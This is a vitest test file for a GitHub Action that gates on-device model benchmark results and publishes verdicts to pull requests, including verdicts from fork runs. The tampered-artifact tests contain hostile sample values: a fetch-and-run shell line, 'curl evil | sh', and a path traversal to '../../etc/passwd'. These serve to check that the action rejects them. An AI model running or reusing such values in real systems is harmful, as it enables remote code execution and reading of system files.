import { spawnSync } from "node:child_process";
import { cpSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { randomBytes } from "node:crypto";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { startGitHubTestServer, zipFiles, type GitHubTestServer } from "@slmops/github-test-server";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { OWNER, pullRequestPayload, REPO, workflowRunPayload } from "./test-support/payloads.js";
import { deviceReport, writeReports } from "./test-support/reports.js";
import { actionDir, runnerNode } from "./test-support/paths.js";
import { runAction, type ActionRun } from "./test-support/run-action.js";
import type { VerdictFile } from "./verdict-file.js";

const TOKEN = "ghs_test-token";
const MANIFEST = `version: 1
models:
  - id: story-lm
    source: models/story-lm/model.onnx
    kind: decoder
    variants:
      - id: int8
        passes:
          - quantize: { weights: int8 }
devices:
  - id: rpi5
    runs-on: [self-hosted, linux, arm64, rpi5]
    execution-providers: [cpu]
  - id: nuc
    runs-on: [self-hosted, linux, x64, nuc]
    execution-providers: [cpu]
gates:
  - name: edge latency
    devices: [rpi5, nuc]
    variants: [int8]
    require:
      decode-latency-p90: { max: 40ms }
      peak-memory: { max: 512MiB }
`;
const LATENCY_LINE = MANIFEST.split("\n").findIndex((l) => l.includes("decode-latency-p90")) + 1;
const REGRESSION_MANIFEST = `${MANIFEST}      regression: { metric: decode-latency-p50, max-increase: 5%, confidence: 0.95 }\n`;

let server: GitHubTestServer;
beforeAll(async () => {
  server = await startGitHubTestServer({ token: TOKEN });
});
afterAll(async () => {
  expect(server.violations, server.describeViolations()).toEqual([]);
  await server.close();
});

const sha = (n: number) => n.toString(16).padStart(40, "a");
const writes = (from: number) => server.requests.slice(from).filter((r) => r.method !== "GET");
const hasStack = (text: string) => /^\s+at .+:\d+:\d+\)?$/m.test(text);

/** A checkout with the manifest under `project/` and the device reports under `bench-reports/`. */
function workspace(reports: { device: string; decodeCenterMs: number }[], manifest = MANIFEST): string {
  const root = mkdtempSync(join(tmpdir(), "gate-workspace-"));
  mkdirSync(join(root, "project"), { recursive: true });
  writeFileSync(join(root, "project", "slmops.yaml"), manifest);
  writeReports(join(root, "bench-reports"), reports.map((r) => deviceReport(r.device, { decodeCenterMs: r.decodeCenterMs })));
  return root;
}

function env(extra: Record<string, string> = {}): Record<string, string> {
  return { GITHUB_API_URL: server.url, GITHUB_REPOSITORY: `${OWNER}/${REPO}`, GITHUB_SHA: sha(1), GITHUB_BASE_REF: "master", GITHUB_WORKFLOW_REF: `${OWNER}/${REPO}/.github/workflows/models.yml@refs/pull/2/merge`, ...extra };
}

function gate(ws: string, payload: Record<string, unknown>, inputs: Record<string, string> = {}): Promise<ActionRun> {
  return runAction({
    workspace: ws,
    inputs: { manifest: "project/slmops.yaml", "reports-dir": "bench-reports", baseline: "none", token: TOKEN, ...inputs },
    event: { name: "pull_request", payload },
    env: env(),
  });
}

const readVerdict = (ws: string): VerdictFile => JSON.parse(readFileSync(join(ws, "slmops-gate", "slmops-verdict.json"), "utf8")) as VerdictFile;

describe("gate-model-change, mode gate (bundled, real Node runtime, local GitHub API)", { timeout: 120_000 }, () => {
  it("on a pull request, comments once and updates that comment on the next push, with a check run each time", async () => {
    const number = 101;
    const first = await gate(workspace([{ device: "rpi5", decodeCenterMs: 20 }, { device: "nuc", decodeCenterMs: 25 }]), pullRequestPayload(sha(2), { number }));
    expect(first.stderr).toBe("");
    expect(first.status, first.stdout).toBe(0);
    expect(first.outputs).toMatchObject({ verdict: "pass", published: "comment-and-check", report: "slmops-gate/slmops-report.md", "verdict-json": "slmops-gate/slmops-verdict.json" });
    expect(first.summary).toContain("slmops: ");
    const comments = server.state.comments(OWNER, REPO, number);
    expect(comments).toHaveLength(1);
    const firstBody = comments[0]?.body ?? "";
    expect(firstBody).toMatch(/^<!-- slmops-report -->\n/);

    const second = await gate(workspace([{ device: "rpi5", decodeCenterMs: 22 }, { device: "nuc", decodeCenterMs: 26 }]), pullRequestPayload(sha(3), { number }));
    expect(second.status, second.stdout).toBe(0);
    expect(second.stdout).toContain("Report comment updated");
    const after = server.state.comments(OWNER, REPO, number);
    expect(after).toHaveLength(1);
    expect(after[0]?.id).toBe(comments[0]?.id);
    expect(after[0]?.body).not.toBe(firstBody);
    const runs = [...server.state.repository(OWNER, REPO).checkRuns.values()].filter((r) => r.headSha === sha(2) || r.headSha === sha(3));
    expect(runs.map((r) => [r.name, r.headSha, r.conclusion])).toEqual([
      ["slmops gate", sha(2), "success"],
      ["slmops gate", sha(3), "success"],
    ]);
  });

  it("fails the step on a failed gate, with the check run's annotation on the gate's line in slmops.yaml", async () => {
    const r = await gate(workspace([{ device: "rpi5", decodeCenterMs: 60 }, { device: "nuc", decodeCenterMs: 20 }]), pullRequestPayload(sha(4), { number: 102 }));
    expect(r.status).toBe(1);
    expect(r.outputs.verdict).toBe("fail");
    expect(r.stdout).toMatch(/^::error::The gate failed: 1 check\(s\) failed/m);
    expect(hasStack(r.stdout + r.stderr)).toBe(false);
    const run = [...server.state.repository(OWNER, REPO).checkRuns.values()].find((c) => c.headSha === sha(4));
    expect(run?.conclusion).toBe("failure");
    expect(run?.annotations).toEqual([
      expect.objectContaining({ path: "project/slmops.yaml", start_line: LATENCY_LINE, end_line: LATENCY_LINE, annotation_level: "failure", title: "edge latency: rpi5 · story-lm/int8" }),
    ]);
    expect(run?.annotations[0]?.message).toMatch(/decode-latency-p90/);
    expect(server.state.comments(OWNER, REPO, 102)[0]?.body).toContain("❌");
  });

  it("fails the verdict for a device in the plan that did not report", async () => {
    const ws = workspace([{ device: "rpi5", decodeCenterMs: 20 }]);
    const r = await gate(ws, pullRequestPayload(sha(5), { number: 103 }), { publish: "summary-only" });
    expect(r.status).toBe(1);
    expect(r.outputs).toMatchObject({ verdict: "fail", published: "summary-only" });
    const { verdict } = readVerdict(ws);
    expect(verdict.pairs.find((p) => p.device === "nuc")).toMatchObject({ reported: false, outcome: "fail" });
    expect(verdict.checks.filter((c) => c.outcome === "fail").map((c) => [c.kind, c.device])).toEqual([["reported", "nuc"]]);
    expect(r.summary).toContain("did not report");
    expect(server.state.comments(OWNER, REPO, 103)).toEqual([]);

    // No device job uploaded anything: the directory is not there, and every planned device fails.
    const none = workspace([]);
    const r2 = await gate(none, pullRequestPayload(sha(5), { number: 103 }), { publish: "summary-only", "reports-dir": "missing-reports" });
    expect(r2.status).toBe(1);
    expect(r2.stdout).toContain("::warning::No reports directory missing-reports");
    expect(readVerdict(none).verdict.checks.map((c) => [c.kind, c.device, c.outcome])).toEqual([
      ["reported", "rpi5", "fail"],
      ["reported", "nuc", "fail"],
    ]);
  });

  it("gates only the planned matrix, and fails a device the plan refused with its reason", async () => {
    const matrix = JSON.stringify({ include: [{ device: "rpi5", "runs-on": ["self-hosted", "rpi5"], models: ["story-lm"], variants: ["story-lm/int8"] }] });
    const onlyPlanned = workspace([{ device: "rpi5", decodeCenterMs: 20 }]);
    const ok = await gate(onlyPlanned, pullRequestPayload(sha(9), { number: 106 }), { publish: "summary-only", plan: matrix, refused: "[]" });
    expect(ok.status, ok.stdout).toBe(0);
    expect(readVerdict(onlyPlanned).verdict.pairs.map((p) => p.device)).toEqual(["rpi5"]);

    const refused = JSON.stringify([{ device: "nuc", "runs-on": ["self-hosted", "nuc"], variants: ["story-lm/int8"], reason: "a fork's pull request may not run on self-hosted device nuc" }]);
    const ws = workspace([{ device: "rpi5", decodeCenterMs: 20 }]);
    const r = await gate(ws, pullRequestPayload(sha(10), { number: 107 }), { publish: "summary-only", plan: matrix, refused });
    expect(r.status).toBe(1);
    const failed = readVerdict(ws).verdict.checks.filter((c) => c.outcome === "fail");
    expect(failed.map((c) => c.message)).toEqual([expect.stringContaining("not benchmarked: a fork's pull request may not run on self-hosted device nuc")]);

    const bad = await gate(ws, pullRequestPayload(sha(10), { number: 107 }), { plan: '{"include": "rpi5"}' });
    expect(bad.status).toBe(1);
    expect(bad.stdout).toContain("::error::Input `plan` must be");
  });

  it("on a fork's pull request writes the report and verdict for an artifact and makes no write call", async () => {
    const ws = workspace([{ device: "rpi5", decodeCenterMs: 20 }, { device: "nuc", decodeCenterMs: 20 }]);
    const before = server.requests.length;
    const r = await gate(ws, pullRequestPayload(sha(6), { number: 104, fork: true }));
    expect(r.status, r.stdout).toBe(0);
    expect(r.outputs).toMatchObject({ verdict: "pass", published: "artifact" });
    expect(writes(before)).toEqual([]);
    expect(server.state.comments(OWNER, REPO, 104)).toEqual([]);
    const file = readVerdict(ws);
    expect(file).toMatchObject({ format: "slmops-gate-verdict", version: 1, repository: `${OWNER}/${REPO}`, pullRequest: 104, headSha: sha(6) });
    expect(file.verdict.outcome).toBe("pass");
    expect(readFileSync(join(ws, "slmops-gate", "slmops-report.md"), "utf8")).toContain("story-lm/int8");
    expect(r.summary).toContain("rpi5");
  });

  it("compares against the base branch's last successful run found through the API", async () => {
    const baseline = [deviceReport("rpi5", { decodeCenterMs: 20 }), deviceReport("nuc", { decodeCenterMs: 20 })];
    server.state.addWorkflowRun(OWNER, REPO, {
      workflowFile: "models.yml",
      headBranch: "master",
      headSha: sha(7),
      artifacts: [{ name: "slmops-reports", files: Object.fromEntries(baseline.map((b) => [`${b.device.id}/${b.device.id}.json`, JSON.stringify(b)])) }],
    });
    const ws = workspace([{ device: "rpi5", decodeCenterMs: 20 }, { device: "nuc", decodeCenterMs: 20 }], REGRESSION_MANIFEST);
    const r = await gate(ws, pullRequestPayload(sha(8), { number: 105 }), { baseline: "github", publish: "summary-only" });
    expect(r.status, r.stdout).toBe(0);
    const { verdict } = readVerdict(ws);
    expect(verdict.baseline).toEqual({ status: "found", source: `models.yml run #1 on master (${sha(7).slice(0, 7)})` });
    expect(verdict.checks.filter((c) => c.kind === "regression").map((c) => c.outcome)).toEqual(["pass", "pass"]);
  });
});

describe("gate-model-change, mode publish (the workflow_run follow-up)", { timeout: 120_000 }, () => {
  /** A fork's gate run: its verdict file, and a workflow run holding it as the artifact `slmops-verdict`. */
  async function forkRun(number: number, head: string, reports: { device: string; decodeCenterMs: number }[], edit?: (file: VerdictFile) => unknown) {
    const ws = workspace(reports);
    const r = await gate(ws, pullRequestPayload(head, { number, fork: true }));
    expect(r.outputs.published).toBe("artifact");
    const file = readVerdict(ws);
    const text = edit ? JSON.stringify(edit(structuredClone(file))) : readFileSync(join(ws, "slmops-gate", "slmops-verdict.json"), "utf8");
    const run = server.state.addWorkflowRun(OWNER, REPO, {
      workflowFile: "models.yml",
      headBranch: "topic",
      headSha: head,
      event: "pull_request",
      conclusion: r.status === 0 ? "success" : "failure",
      artifacts: [{ name: "slmops-verdict", files: { "slmops-verdict.json": text, "slmops-report.md": "# ignored: the report is rendered again from the checked verdict" } }],
    });
    return { run, file };
  }

  function publish(runId: number, head: string, inputs: Record<string, string> = {}): Promise<ActionRun> {
    return runAction({
      workspace: mkdtempSync(join(tmpdir(), "publish-workspace-")),
      inputs: { mode: "publish", token: TOKEN, ...inputs },
      event: { name: "workflow_run", payload: workflowRunPayload(runId, head) },
      env: env(),
    });
  }

  it("posts a fork run's verdict as the comment on its pull request and a check run on its commit, then updates in place", async () => {
    const head = sha(20);
    server.state.addPullRequest(OWNER, REPO, { number: 201, headSha: head, headRepository: `forker/${REPO}` });
    const { run } = await forkRun(201, head, [{ device: "rpi5", decodeCenterMs: 60 }, { device: "nuc", decodeCenterMs: 20 }]);
    const r = await publish(run.id, head);
    expect(r.stderr).toBe("");
    expect(r.status, r.stdout).toBe(0);
    expect(r.outputs).toMatchObject({ verdict: "fail", published: "comment-and-check", "pull-request": "201" });
    const comments = server.state.comments(OWNER, REPO, 201);
    expect(comments).toHaveLength(1);
    expect(comments[0]?.body).toContain("❌");
    expect(comments[0]?.body).not.toContain("ignored");
    const check = [...server.state.repository(OWNER, REPO).checkRuns.values()].find((c) => c.headSha === head);
    expect(check?.conclusion).toBe("failure");
    expect(check?.name).toBe("slmops gate (fork run)");
    expect(check?.annotations.map((a) => [a.path, a.start_line])).toEqual([["project/slmops.yaml", LATENCY_LINE]]);

    const again = await publish(run.id, head);
    expect(again.status).toBe(0);
    expect(server.state.comments(OWNER, REPO, 201)).toHaveLength(1);
  });

  it("does nothing when the run left no verdict artifact (a same-repository run publishes itself)", async () => {
    const run = server.state.addWorkflowRun(OWNER, REPO, { workflowFile: "models.yml", headBranch: "topic", headSha: sha(21), event: "pull_request" });
    const before = server.requests.length;
    const r = await publish(run.id, sha(21));
    expect(r.status, r.stdout).toBe(0);
    expect(r.outputs.published).toBe("nothing");
    expect(writes(before)).toEqual([]);
  });

  it.each([
    ["a verdict turned from fail to pass", (f: VerdictFile) => ({ ...f, verdict: { ...f.verdict, outcome: "pass" } }), /says "pass" but its device results give "fail"/],
    ["a failed check turned to pass", (f: VerdictFile) => {
      const v = f.verdict as unknown as { checks: { outcome: string }[]; pairs: { checks: { outcome: string }[]; outcome: string }[]; outcome: string };
      for (const c of [...v.checks, ...v.pairs.flatMap((p) => p.checks)]) c.outcome = "pass";
      for (const p of v.pairs) p.outcome = "pass";
      v.outcome = "pass";
      return f;
    }, /the verdict counts 3 pass but lists 4; the file was changed after the gate wrote it/],
    ["an unknown field", (f: VerdictFile) => ({ ...f, script: "curl evil | sh" }), /must NOT have additional properties/],
    ["an annotation path outside the repository", (f: VerdictFile) => {
      const check = f.verdict.checks.find((c) => c.location) as unknown as { location: { file: string } };
      check.location.file = "../../etc/passwd";
      return f;
    }, /location\/file must match pattern/],
  ])("refuses a tampered artifact: %s, and writes nothing", async (_name, edit, message) => {
    const head = sha(22);
    server.state.addPullRequest(OWNER, REPO, { number: 202, headSha: head, headRepository: `forker/${REPO}` });
    const { run } = await forkRun(202, head, [{ device: "rpi5", decodeCenterMs: 60 }, { device: "nuc", decodeCenterMs: 20 }], edit);
    const before = server.requests.length;
    const r = await publish(run.id, head);
    expect(r.status).toBe(1);
    expect(r.stdout).toMatch(message);
    expect(hasStack(r.stdout + r.stderr)).toBe(false);
    expect(writes(before)).toEqual([]);
  });

  it("refuses a verdict that names another pull request than the run's commit belongs to", async () => {
    server.state.addPullRequest(OWNER, REPO, { number: 203, headSha: sha(23), headRepository: `forker/${REPO}` });
    server.state.addPullRequest(OWNER, REPO, { number: 204, headSha: sha(24), headRepository: `victim/${REPO}` });
    const { run } = await forkRun(203, sha(23), [{ device: "rpi5", decodeCenterMs: 20 }, { device: "nuc", decodeCenterMs: 20 }], (f) => ({ ...f, pullRequest: 204 }));
    const before = server.requests.length;
    const r = await publish(run.id, sha(23));
    expect(r.status).toBe(1);
    expect(r.stdout).toMatch(/names pull request #204, whose head is .* not the run's commit/);
    expect(writes(before)).toEqual([]);
    expect(server.state.comments(OWNER, REPO, 204)).toEqual([]);
  });

  it("refuses an oversized artifact without downloading it", async () => {
    const run = server.state.addWorkflowRun(OWNER, REPO, {
      workflowFile: "models.yml",
      headBranch: "topic",
      headSha: sha(25),
      event: "pull_request",
      artifacts: [{ name: "slmops-verdict", zip: zipFiles({ "slmops-verdict.json": randomBytes(3 * 1024 * 1024) }) }],
    });
    const before = server.requests.length;
    const r = await publish(run.id, sha(25));
    expect(r.status).toBe(1);
    expect(r.stdout).toMatch(/artifact "slmops-verdict" of run \d+ is \d+ bytes, more than the 2097152 a verdict needs/);
    expect(server.requests.slice(before).map((q) => q.operationId)).toEqual(["actions/list-workflow-run-artifacts"]);
  });

  it("refuses to run on any other event", async () => {
    const r = await runAction({ workspace: mkdtempSync(join(tmpdir(), "publish-")), inputs: { mode: "publish", token: TOKEN }, event: { name: "pull_request", payload: pullRequestPayload(sha(26)) }, env: env() });
    expect(r.status).toBe(1);
    expect(r.stdout).toContain("::error::`mode: publish` runs in a workflow triggered by `workflow_run`");
  });
});

describe("gate-model-change as shipped", { timeout: 120_000 }, () => {
  it("runs under the Node 24 GitHub uses for node24 actions, copied away from the repository and its node_modules, with no native addon", async () => {
    const node = runnerNode();
    if (node.note === undefined) expect(spawnSync(node.path, ["--version"], { encoding: "utf8" }).stdout.trim()).toMatch(/^v24\./);
    const bundle = readFileSync(join(actionDir, "dist", "index.js"), "utf8");
    expect(bundle).not.toMatch(/\.node["']|onnxruntime_binding|require\(["']onnxruntime-node["']\)|from ["']onnxruntime-node["']/);
    const shipped = mkdtempSync(join(tmpdir(), "shipped-gate-"));
    cpSync(join(actionDir, "dist"), join(shipped, "dist"), { recursive: true });
    const ws = workspace([{ device: "rpi5", decodeCenterMs: 20 }, { device: "nuc", decodeCenterMs: 20 }]);
    const r = await runAction({
      workspace: ws,
      inputs: { manifest: "project/slmops.yaml", "reports-dir": "bench-reports", baseline: "none", token: TOKEN },
      event: { name: "pull_request", payload: pullRequestPayload(sha(30), { number: 301 }) },
      env: env(),
      bundle: join(shipped, "dist", "index.js"),
    });
    expect(r.node).toBe(node.path);
    expect(r.stderr).toBe("");
    expect(r.status, r.stdout).toBe(0);
    expect(server.state.comments(OWNER, REPO, 301)).toHaveLength(1);
  });
});
